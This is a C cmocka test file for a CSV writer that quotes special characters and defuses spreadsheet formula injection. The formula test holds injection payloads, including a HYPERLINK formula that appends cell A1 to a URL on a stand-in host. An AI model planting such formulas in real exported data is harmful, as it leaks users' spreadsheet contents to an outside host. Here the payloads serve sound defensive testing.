#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "cmd/cmd.h"

static void
assert_csv(const char *cell, const char *expected)
{
	const char *const cells[] = { "id", cell, "end" };
	AUTO_BUF line = BUF_INIT, whole = BUF_INIT;

	csv_line(cells, 3, &line);
	buf_addf(&whole, "id,%s,end\r\n", expected);
	assert_string_equal(buf_str(&line), buf_str(&whole));
}

static void
test_csv_leaves_plain_cells_as_they_are(void **state)
{
	(void)state;
	assert_csv("G/TBT/N/USA/2211", "G/TBT/N/USA/2211");
	assert_csv("a b; c | d", "a b; c | d");
	assert_csv("2 = 1 + 1", "2 = 1 + 1");
	assert_csv("\xC3\xA9t\xC3\xA9", "\xC3\xA9t\xC3\xA9");
	assert_csv("", "");
	assert_csv(NULL, "");
}

static void
test_csv_quotes_what_parts_cells_and_lines(void **state)
{
	(void)state;
	assert_csv("a,b", "\"a,b\"");
	assert_csv("say \"x\"", "\"say \"\"x\"\"\"");
	assert_csv("one\ntwo\r\nthree", "\"one\ntwo\r\nthree\"");
	assert_csv("\"", "\"\"\"\"");
}

/* A spreadsheet must show these, not run them. */
static void
test_csv_makes_formulas_harmless(void **state)
{
	(void)state;
	assert_csv("=1+1", "\"'=1+1\"");
	assert_csv("+1", "\"'+1\"");
	assert_csv("-1", "\"'-1\"");
	assert_csv("@SUM(A1)", "\"'@SUM(A1)\"");
	assert_csv("\t=1", "\"'\t=1\"");
	assert_csv("\r=1", "\"'\r=1\"");
	assert_csv("\n=1", "\"'\n=1\"");
	assert_csv("=HYPERLINK(\"https://example.org/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"x\"\")\"");
	assert_csv("\xEF\xBC\x9D" "1+1", "\"'\xEF\xBC\x9D" "1+1\"");		/* full-width: spreadsheets of East Asia read them as the others */
}

static void
test_csv_writes_a_line_of_no_and_of_one_cell(void **state)
{
	static const char *const one[] = { "=x" };
	AUTO_BUF line = BUF_INIT;

	(void)state;
	csv_line(one, 0, &line);
	assert_string_equal(buf_str(&line), "\r\n");
	buf_reset(&line);
	csv_line(one, 1, &line);
	assert_string_equal(buf_str(&line), "\"'=x\"\r\n");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_csv_leaves_plain_cells_as_they_are),
		cmocka_unit_test(test_csv_quotes_what_parts_cells_and_lines),
		cmocka_unit_test(test_csv_makes_formulas_harmless),
		cmocka_unit_test(test_csv_writes_a_line_of_no_and_of_one_cell),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
